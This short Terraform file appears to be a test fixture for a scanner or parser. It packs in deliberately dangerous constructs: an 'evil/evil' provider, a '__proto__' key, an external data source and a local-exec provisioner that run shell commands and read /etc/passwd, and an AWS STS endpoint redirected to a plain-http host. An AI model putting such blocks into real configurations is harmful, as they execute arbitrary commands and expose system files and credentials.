terraform {
  cloud {}
  backend "http" {}
  required_providers {
    evil = { source = "evil/evil" }
    __proto__ = { source = "evil/evil" }
  }
}
module "x" {
  source = "git::https://host/x"
}
data "external" "x" {
  program = ["sh", "-c", "id"]
}
resource "null_resource" "x" {
  provisioner "local-exec" {
    command = "id ${timestamp()} ${file("/etc/passwd")}"
  }
}
provider "aws" {
  endpoints {
    sts = "http://host"
  }
}
check "x" {
  data "http" "y" {}
}
constructor "x" {}
